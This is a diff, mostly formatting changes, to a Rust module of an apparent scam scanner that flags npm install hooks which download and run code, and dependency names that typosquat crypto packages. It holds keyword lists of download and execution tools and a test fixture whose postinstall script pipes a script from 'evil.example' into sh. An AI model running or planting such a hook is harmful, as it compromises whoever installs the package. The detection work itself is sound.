@@ -1,10 +1,10 @@
 //! Package manifests: npm install hooks that fetch and run code, and dependencies whose
 //! names imitate well-known crypto packages (typosquats).
 
+use super::anchors::Sig;
 use super::classify::file_name;
 use super::scam::ScamFinding;
 use super::scanner::FileScan;
-use super::anchors::Sig;
 use crate::result::Severity;
 use crate::tree::FileTree;
 
@@ -17,24 +17,86 @@ pub enum Ecosystem {
 
 /// Well-known packages that scammers imitate.
 const NPM: &[&str] = &[
-    "ethers", "web3", "viem", "wagmi", "@solana/web3.js", "@solana/spl-token", "@solana/wallet-adapter-base",
-    "@solana/wallet-adapter-react", "@coral-xyz/anchor", "@project-serum/anchor", "@metaplex-foundation/js",
-    "@metaplex-foundation/umi", "bs58", "tweetnacl", "bip39", "ed25519-hd-key", "@ethersproject/wallet",
-    "ethereumjs-wallet", "ethereumjs-util", "@uniswap/sdk-core", "@uniswap/v3-sdk", "@raydium-io/raydium-sdk",
-    "@jup-ag/api", "@openzeppelin/contracts", "hardhat", "bitcoinjs-lib", "@noble/secp256k1", "@noble/curves",
-    "@noble/hashes", "secp256k1", "elliptic", "axios", "dotenv", "@walletconnect/sign-client", "@pythnetwork/client",
+    "ethers",
+    "web3",
+    "viem",
+    "wagmi",
+    "@solana/web3.js",
+    "@solana/spl-token",
+    "@solana/wallet-adapter-base",
+    "@solana/wallet-adapter-react",
+    "@coral-xyz/anchor",
+    "@project-serum/anchor",
+    "@metaplex-foundation/js",
+    "@metaplex-foundation/umi",
+    "bs58",
+    "tweetnacl",
+    "bip39",
+    "ed25519-hd-key",
+    "@ethersproject/wallet",
+    "ethereumjs-wallet",
+    "ethereumjs-util",
+    "@uniswap/sdk-core",
+    "@uniswap/v3-sdk",
+    "@raydium-io/raydium-sdk",
+    "@jup-ag/api",
+    "@openzeppelin/contracts",
+    "hardhat",
+    "bitcoinjs-lib",
+    "@noble/secp256k1",
+    "@noble/curves",
+    "@noble/hashes",
+    "secp256k1",
+    "elliptic",
+    "axios",
+    "dotenv",
+    "@walletconnect/sign-client",
+    "@pythnetwork/client",
 ];
 const PYPI: &[&str] = &[
-    "web3", "solana", "solders", "anchorpy", "eth-account", "eth-utils", "bip-utils", "mnemonic", "base58",
-    "pycryptodome", "requests", "ccxt", "python-binance", "eth-brownie", "cryptography", "python-dotenv",
+    "web3",
+    "solana",
+    "solders",
+    "anchorpy",
+    "eth-account",
+    "eth-utils",
+    "bip-utils",
+    "mnemonic",
+    "base58",
+    "pycryptodome",
+    "requests",
+    "ccxt",
+    "python-binance",
+    "eth-brownie",
+    "cryptography",
+    "python-dotenv",
 ];
 const CRATES: &[&str] = &[
-    "solana-sdk", "solana-client", "solana-program", "anchor-lang", "anchor-spl", "spl-token", "ethers", "alloy",
-    "bs58", "ed25519-dalek", "k256", "secp256k1", "tokio", "serde", "reqwest",
+    "solana-sdk",
+    "solana-client",
+    "solana-program",
+    "anchor-lang",
+    "anchor-spl",
+    "spl-token",
+    "ethers",
+    "alloy",
+    "bs58",
+    "ed25519-dalek",
+    "k256",
+    "secp256k1",
+    "tokio",
+    "serde",
+    "reqwest",
 ];
 
 /// Real packages one edit away from a well-known one.
-const LEGIT_NEIGHBOURS: &[&str] = &["dotenvx", "web3x", "ethersv5", "solana-py", "solana-sdk-macro"];
+const LEGIT_NEIGHBOURS: &[&str] = &[
+    "dotenvx",
+    "web3x",
+    "ethersv5",
+    "solana-py",
+    "solana-sdk-macro",
+];
 
 /// Identity under each registry's own rules (PyPI: PEP 503; crates: `-` = `_`; npm: exact).
 fn identity(eco: Ecosystem, name: &str) -> String {
@@ -56,7 +118,10 @@ fn identity(eco: Ecosystem, name: &str) -> String {
 
 /// Letters and digits only: what a hurried reader sees.
 fn skeleton(name: &str) -> String {
-    name.chars().filter(|c| c.is_ascii_alphanumeric()).map(|c| c.to_ascii_lowercase()).collect()
+    name.chars()
+        .filter(|c| c.is_ascii_alphanumeric())
+        .map(|c| c.to_ascii_lowercase())
+        .collect()
 }
 
 /// Optimal string alignment distance (Damerau-Levenshtein with adjacent swaps).
@@ -74,7 +139,9 @@ pub fn osa_distance(a: &str, b: &str) -> usize {
     for i in 1..=n {
         for j in 1..=m {
             let cost = usize::from(a[i - 1] != b[j - 1]);
-            d[i][j] = (d[i - 1][j] + 1).min(d[i][j - 1] + 1).min(d[i - 1][j - 1] + cost);
+            d[i][j] = (d[i - 1][j] + 1)
+                .min(d[i][j - 1] + 1)
+                .min(d[i - 1][j - 1] + cost);
             if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                 d[i][j] = d[i][j].min(d[i - 2][j - 2] + 1);
             }
@@ -121,7 +188,12 @@ pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
     let mut out = Vec::new();
     if name == "package.json" {
         if let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) {
-            for sec in ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"] {
+            for sec in [
+                "dependencies",
+                "devDependencies",
+                "optionalDependencies",
+                "peerDependencies",
+            ] {
                 if let Some(obj) = v.get(sec).and_then(|d| d.as_object()) {
                     out.extend(obj.keys().map(|k| (Ecosystem::Npm, k.clone())));
                 }
@@ -133,7 +205,10 @@ pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
             if l.is_empty() || l.starts_with('-') {
                 continue;
             }
-            let n: String = l.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')).collect();
+            let n: String = l
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+                .collect();
             if !n.is_empty() {
                 out.push((Ecosystem::PyPi, n));
             }
@@ -169,7 +244,8 @@ pub fn evaluate(tree: &FileTree, scans: &[FileScan]) -> Vec<ScamFinding> {
             continue;
         }
         let name = file_name(&f.path);
-        let manifest = matches!(name, "package.json" | "Cargo.toml") || (name.starts_with("requirements") && name.ends_with(".txt"));
+        let manifest = matches!(name, "package.json" | "Cargo.toml")
+            || (name.starts_with("requirements") && name.ends_with(".txt"));
         if !manifest {
             continue;
         }
@@ -193,31 +269,89 @@ pub fn evaluate(tree: &FileTree, scans: &[FileScan]) -> Vec<ScamFinding> {
 }
 
 fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<ScamFinding>) {
-    let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else { return };
-    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else { return };
-    let dir = path.rsplit_once('/').map(|(d, _)| format!("{d}/")).unwrap_or_default();
+    let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else {
+        return;
+    };
+    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
+        return;
+    };
+    let dir = path
+        .rsplit_once('/')
+        .map(|(d, _)| format!("{d}/"))
+        .unwrap_or_default();
     for hook in INSTALL_HOOKS {
-        let Some(cmd) = scripts.get(hook).and_then(|c| c.as_str()) else { continue };
+        let Some(cmd) = scripts.get(hook).and_then(|c| c.as_str()) else {
+            continue;
+        };
         let lc = cmd.to_ascii_lowercase();
-        let downloads = ["curl ", "wget ", "invoke-webrequest", "iwr ", "certutil", "bitsadmin", "http://", "https://"].iter().any(|w| lc.contains(w));
-        let runs = ["| sh", "|sh", "| bash", "|bash", "| node", "iex", "&& ./", "; ./", "chmod +x", "powershell", "eval", "| python"].iter().any(|w| lc.contains(w));
-        let inline_node = lc.contains("node -e") && (lc.contains("http") || lc.contains("child_process"));
+        let downloads = [
+            "curl ",
+            "wget ",
+            "invoke-webrequest",
+            "iwr ",
+            "certutil",
+            "bitsadmin",
+            "http://",
+            "https://",
+        ]
+        .iter()
+        .any(|w| lc.contains(w));
+        let runs = [
+            "| sh",
+            "|sh",
+            "| bash",
+            "|bash",
+            "| node",
+            "iex",
+            "&& ./",
+            "; ./",
+            "chmod +x",
+            "powershell",
+            "eval",
+            "| python",
+        ]
+        .iter()
+        .any(|w| lc.contains(w));
+        let inline_node =
+            lc.contains("node -e") && (lc.contains("http") || lc.contains("child_process"));
         let (sev, title, why) = if (downloads && runs) || inline_node {
-            (Severity::Critical, "Install script downloads and runs code", "downloads code and runs it")
+            (
+                Severity::Critical,
+                "Install script downloads and runs code",
+                "downloads code and runs it",
+            )
         } else if downloads {
-            (Severity::High, "Install script downloads files", "downloads files from the internet")
+            (
+                Severity::High,
+                "Install script downloads files",
+                "downloads files from the internet",
+            )
         } else if let Some(script) = local_script(cmd).map(|s| format!("{dir}{s}")) {
             // `node scripts/setup.js`: judge the script by its own signals.
-            let Some(fs) = scans.iter().find(|s| s.path == script) else { continue };
+            let Some(fs) = scans.iter().find(|s| s.path == script) else {
+                continue;
+            };
             let critical = fs.scam.iter().any(|f| f.severity == Severity::Critical);
             let net = fs.count(Sig::NetworkUse) > 0;
             let spawn = fs.count(Sig::ProcessSpawn) > 0;
             if critical {
-                (Severity::Critical, "Install script runs malicious code", "runs a script with a critical finding")
+                (
+                    Severity::Critical,
+                    "Install script runs malicious code",
+                    "runs a script with a critical finding",
+                )
             } else if net && spawn {
-                (Severity::High, "Install script fetches and starts programs", "runs a script that uses the network and starts programs")
+                (
+                    Severity::High,
+                    "Install script fetches and starts programs",
+                    "runs a script that uses the network and starts programs",
+                )
             } else if net {
-                (Severity::Medium, "Install script uses the network", "runs a script that uses the network")
+                (
+                    Severity::Medium,
+                    "Install script uses the network",
+                    "runs a script that uses the network",
+                )
             } else {
                 continue;
             }
@@ -230,7 +364,10 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
             title: title.to_string(),
             path: path.to_string(),
             line: 0,
-            detail: format!("The npm \"{hook}\" script in {path} {why} on every install: `{}`.", truncate(cmd, 120)),
+            detail: format!(
+                "The npm \"{hook}\" script in {path} {why} on every install: `{}`.",
+                truncate(cmd, 120)
+            ),
         });
     }
 }
@@ -238,10 +375,14 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
 fn local_script(cmd: &str) -> Option<String> {
     let mut it = cmd.split_whitespace();
     let first = it.next()?;
-    if !matches!(first, "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash") {
+    if !matches!(
+        first,
+        "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash"
+    ) {
         return None;
     }
-    it.find(|a| !a.starts_with('-')).map(|s| s.trim_start_matches("./").to_string())
+    it.find(|a| !a.starts_with('-'))
+        .map(|s| s.trim_start_matches("./").to_string())
 }
 
 fn truncate(s: &str, n: usize) -> String {
@@ -258,8 +399,14 @@ mod tests {
 
     #[test]
     fn typosquats() {
-        assert_eq!(typosquat_of(Ecosystem::Npm, "@solana/web3js"), Some("@solana/web3.js"));
-        assert_eq!(typosquat_of(Ecosystem::Npm, "solana-web3.js"), Some("@solana/web3.js"));
+        assert_eq!(
+            typosquat_of(Ecosystem::Npm, "@solana/web3js"),
+            Some("@solana/web3.js")
+        );
+        assert_eq!(
+            typosquat_of(Ecosystem::Npm, "solana-web3.js"),
+            Some("@solana/web3.js")
+        );
         assert_eq!(typosquat_of(Ecosystem::Npm, "etherss"), Some("ethers"));
         assert_eq!(typosquat_of(Ecosystem::Npm, "bip93"), Some("bip39"));
         assert_eq!(typosquat_of(Ecosystem::Npm, "bs59"), None); // short: only exact skeletons
@@ -271,7 +418,10 @@ mod tests {
         assert_eq!(typosquat_of(Ecosystem::PyPi, "Solana"), None);
         assert_eq!(typosquat_of(Ecosystem::PyPi, "solanna"), Some("solana"));
         assert_eq!(typosquat_of(Ecosystem::Crates, "solana_sdk"), None);
-        assert_eq!(typosquat_of(Ecosystem::Crates, "solana-sdkk"), Some("solana-sdk"));
+        assert_eq!(
+            typosquat_of(Ecosystem::Crates, "solana-sdkk"),
+            Some("solana-sdk")
+        );
         assert_eq!(typosquat_of(Ecosystem::Crates, "tokio-util"), None);
     }
 
@@ -281,7 +431,10 @@ mod tests {
         assert_eq!(dependencies("package.json", pj).len(), 2);
         let req = b"web3==6.0\n# c\n-r other.txt\nsolders>=0.18 ; python_version>'3'\n";
         let d = dependencies("requirements.txt", req);
-        assert_eq!(d.iter().map(|(_, n)| n.as_str()).collect::<Vec<_>>(), vec!["web3", "solders"]);
+        assert_eq!(
+            d.iter().map(|(_, n)| n.as_str()).collect::<Vec<_>>(),
+            vec!["web3", "solders"]
+        );
         let ct = b"[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\ntokio = { version = \"1\" }\n[dev-dependencies]\nsolana-sdkk = \"1\"\n";
         assert_eq!(dependencies("Cargo.toml", ct).len(), 3);
     }
@@ -289,7 +442,10 @@ mod tests {
     #[test]
     fn hooks() {
         let mut tree = FileTree::default();
-        tree.add("package.json", r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#);
+        tree.add(
+            "package.json",
+            r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
+        );
         let f = evaluate(&tree, &[]);
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].severity, Severity::Critical);
